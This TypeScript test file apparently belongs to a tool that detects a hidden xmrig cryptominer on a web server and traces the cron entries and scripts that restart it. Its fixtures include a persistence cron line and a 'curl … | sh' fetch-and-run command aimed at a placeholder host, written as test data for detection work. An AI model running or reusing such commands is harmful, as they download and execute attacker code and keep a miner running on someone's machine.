import { describe, expect, test } from 'vitest';
import { trace } from '../../../tests/machine-incident.ts';
import { makeMachineCase, type OnMachine } from '../../../tests/make-machine-case.ts';
import type { Case } from '../../model/case.ts';
import { gone } from '../gone.ts';
import { reachItems } from './items.ts';

// Names as intruders choose them: a folder that every home has, the name of a program that every server runs.
const folder = '/var/www/shop/wp-content/uploads/.cache';
const miner = `${folder}/php-fpm`;
const script = `${folder}/start.sh`;

const code: OnMachine = {
  in: miner,
  kind: 'miner-code',
  value: { family: 'xmrig', form: 'executable', marks: ['xmrig'] },
} as OnMachine; // only what the test needs
const config = (place: string): OnMachine => ({
  in: place,
  kind: 'mining-config',
  value: { pools: [{ host: 'pool.example.com', port: 3333, login: 'x' }], source: 'json' },
});
const cron = (over: Record<string, unknown> = {}): OnMachine =>
  ({
    in: '/var/spool/cron/crontabs/www-data',
    kind: 'autostart',
    line: 2,
    value: {
      mechanism: 'cron',
      place: '/var/spool/cron/crontabs/www-data',
      entry: `*/3 * * * * /bin/sh ${script}`,
      starts: `/bin/sh ${script}`,
      programs: ['/bin/sh', script, miner],
      user: 'www-data',
      why: ['recent'],
      ...over,
    },
  }) as OnMachine; // a test may change any field

function machine(place: string, entries: readonly OnMachine[]): Case {
  const traces = [trace(miner), trace(script, { form: 'script', size: 140 })];
  return makeMachineCase(
    [code, config(place), ...entries, ...traces],
    [
      { detector: 'miner-binary', stage: 'capability', over: [0] },
      { detector: 'mining-account', stage: 'configured', over: [1] },
      ...(entries.length > 0 ? [{ detector: 'miner-autostart', stage: 'capability', over: [2, 0] } as const] : []),
    ],
    { [place]: 'text', [script]: 'script' },
    'disk',
  );
}

const proofs = (evidence: Case) =>
  Object.fromEntries((reachItems(evidence) ?? []).map(({ place, proof }) => [place, proof]));

describe('a miner that an entry starts, with its configuration in its own folder', () => {
  test('is the miner’s, with the entry and the script between them', () => {
    const evidence = machine(`${folder}/c.json`, [cron()]);
    expect(proofs(evidence)).toEqual({
      '/var/spool/cron/crontabs/www-data': 'shown',
      [`${folder}/c.json`]: 'shown',
      [miner]: 'shown',
      [script]: 'shown',
    });
    expect(reachItems(evidence)?.[0]?.removal).toEqual([
      { do: 'delete-line', path: '/var/spool/cron/crontabs/www-data', line: `*/3 * * * * /bin/sh ${script}` },
    ]);
    expect(gone.assess(evidence).says).toContain('1 entry starts it again: /var/spool/cron/crontabs/www-data');
  });

  test('is to be looked at where nothing starts it', () => {
    expect(proofs(machine(`${folder}/c.json`, []))[miner]).toBe('likely');
  });

  test('is to be looked at where the configuration lies elsewhere, and what may start it is told', () => {
    const evidence = machine('/home/anna/notes/config.json', [cron()]);
    expect(proofs(evidence)[miner]).toBe('likely');
    expect(gone.assess(evidence).says).toContain('for you to judge: /var/spool/cron/crontabs/www-data');
    expect(gone.assess(evidence).says).not.toContain('nothing was found that starts');
  });

  test('a package’s own unit makes no miner of what lies beside its program', () => {
    expect(proofs(machine(`${folder}/c.json`, [cron({ packaged: 'yes' })]))[miner]).toBe('likely');
  });
});

describe('a script that fetches the miner’s file', () => {
  const fetching = (place: string): ReturnType<typeof proofs> => {
    const download = {
      in: place,
      kind: 'download',
      value: { url: 'http://drop.example/x', tool: 'curl', target: miner, runs: false },
    } as OnMachine; // only what the test needs
    const starts = 'curl -fsSL http://drop.example/g.sh | sh';
    const again = cron({
      place: other,
      entry: starts,
      starts,
      programs: [],
      user: 'ann',
      why: ['fetches-and-runs'],
      modified: at,
    });
    const evidence = makeMachineCase(
      [code, config(`${folder}/c.json`), cron(), trace(miner), trace(place, { form: 'script' }), download, again],
      [
        { detector: 'miner-binary', stage: 'capability', over: [0] },
        { detector: 'mining-account', stage: 'configured', over: [1] },
        { detector: 'miner-autostart', stage: 'capability', over: [2, 0] },
      ],
      { [`${folder}/c.json`]: 'text', [place]: 'script' },
    );
    return proofs(evidence);
  };
  const other = '/etc/cron.d/zz';
  const at = '2026-11-19T03:13:00.000Z';

  test('is the miner’s, where it lies in a folder for temporary files', () => {
    expect(fetching('/tmp/.gs/g.sh')['/tmp/.gs/g.sh']).toBe('shown');
  });

  test('tells where the miner is fetched from, so that what fetches from there at that time is the miner’s as well', () => {
    expect(fetching('/tmp/.gs/g.sh')[other]).toBe('shown');
  });
});
